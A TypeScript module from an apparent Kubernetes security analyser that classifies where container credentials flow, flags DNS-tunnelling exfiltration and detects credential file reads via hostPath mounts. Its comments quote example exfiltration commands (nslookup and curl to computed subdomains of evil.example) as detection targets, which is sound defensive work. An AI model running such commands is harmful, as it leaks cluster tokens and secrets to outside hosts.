/**
 * Queries the credential rules share over a container's execution model: where credential content
 * goes (flows from a `credential` source), whether a send reaches the credential's own audience,
 * and which files a container reads (directly or through a hostPath mount of the node).
 */
import type { CredentialKind } from '../workload/action.js';
import { parseUrl } from '../workload/address.js';
import { credentialOfPath, isAudience, type CredentialOrigin } from '../workload/credential.js';
import type { Flow } from '../workload/model.js';
import { actionsOf, nodePathOf, type ContainerExecution } from './behaviour.js';

/** A flow whose content is a credential, with its origin typed. */
export interface CredentialFlow {
  readonly flow: Flow;
  readonly origin: CredentialOrigin;
}

/** Flows of one container carrying a credential of one of `kinds`. */
export function credentialFlows(
  entry: ContainerExecution,
  kinds: ReadonlySet<CredentialKind>,
): CredentialFlow[] {
  const out: CredentialFlow[] = [];
  for (const flow of entry.execution.flows) {
    if (flow.source.kind === 'credential' && kinds.has(flow.source.credential)) {
      out.push({ flow, origin: flow.source });
    }
  }
  return out;
}

export type SendVerdict = 'audience' | 'elsewhere' | 'unknown';

/** The API server's in-cluster names and the variable the kubelet sets; nothing with another suffix. */
const API_SERVER =
  /^(?:kubernetes|kubernetes\.default|kubernetes\.default\.svc|kubernetes\.default\.svc\.cluster\.local|\$\{?kubernetes_service_host\}?)$/i;
const VAULT_LOGIN = /\/v1\/auth\/[^?#]+\/login\b/;

/** A host name whose leading labels are computed (`$(…)`, `$c`, code) under literal trailing labels. */
const COMPUTED_UNDER_DOMAIN = /^(.*[^a-z0-9.-].*)\.((?:[a-z0-9-]+\.)+[a-z][a-z0-9-]+)$/i;
/** Domains that never leave the cluster or the local network: the names a pod looks up for its peers. */
const LOCAL_DOMAIN = /(?:^|\.)(?:svc|cluster\.local|local|localdomain|internal|lan|home\.arpa)$/i;

/**
 * The domain a credential is smuggled to inside a host name: `nslookup $(… | base32).evil.example`,
 * `socket.gethostbyname(hex + ".evil.example")`, `curl http://$(…).evil.example/`. The resolver
 * sends the whole name to the name server of that domain, so the content leaves even when the
 * connection never happens (DNS tunnelling, T1048). A name that is only the value (`nslookup
 * "$DB_HOST"` with the host from a Secret) or one under a cluster domain is a host looked up.
 */
export function queriedDomain(destination: string | undefined): string | undefined {
  if (destination === undefined) return undefined;
  // A looked-up name is taken whole: `${T:0:60}.x.example` has a colon that is not a port.
  const host = destination.startsWith('dns://') ? destination.slice(6) : parseUrl(destination)?.host;
  if (host === undefined) return undefined;
  const match = COMPUTED_UNDER_DOMAIN.exec(host.replace(/\.$/, ''));
  const domain = match?.[2];
  if (domain === undefined || LOCAL_DOMAIN.test(domain)) return undefined;
  return domain;
}

/** Where a `send` flow takes the credential: to its audience, elsewhere, or a place not known before run time. */
export function sendVerdict({ flow, origin }: CredentialFlow): SendVerdict {
  if (flow.destination === undefined) return 'unknown';
  if (queriedDomain(flow.destination) !== undefined) return 'elsewhere';
  const url = parseUrl(flow.destination);
  if (url === undefined) return 'unknown';
  if (origin.credential === 'service-account-token') {
    // Checked here rather than left to `isAudience`: a public name that merely starts with an
    // in-cluster one (`kubernetes.default.svc.evil.example`) is not the API server.
    if (API_SERVER.test(url.host.replace(/\.$/, '')) || VAULT_LOGIN.test(url.path)) return 'audience';
  } else if (isAudience(origin, url)) return 'audience';
  if (url.host === '' || url.host.includes('$')) return 'unknown';
  return 'elsewhere';
}

/** One file a container reads, with the node path it shows when it is inside a hostPath mount. */
export interface FileRead {
  readonly path: string;
  /** The file as the container names it. */
  readonly file: string;
  /** The node's path when the file is inside a hostPath mount. */
  readonly nodePath?: string;
  readonly credential?: CredentialOrigin;
}

/** Every file the container reads that holds a credential, through a mount or by its own path. */
export function credentialReads(entry: ContainerExecution): FileRead[] {
  const out: FileRead[] = [];
  for (const action of actionsOf(entry.execution, 'read')) {
    const file = action.file.text;
    const nodePath = file.startsWith('/') ? nodePathOf(entry, file) : undefined;
    const credential =
      (nodePath === undefined ? undefined : credentialOfPath(nodePath)) ?? credentialOfPath(file);
    if (credential === undefined) continue;
    out.push(
      nodePath === undefined
        ? { path: action.path, file, credential }
        : { path: action.path, file, nodePath, credential },
    );
  }
  return out;
}
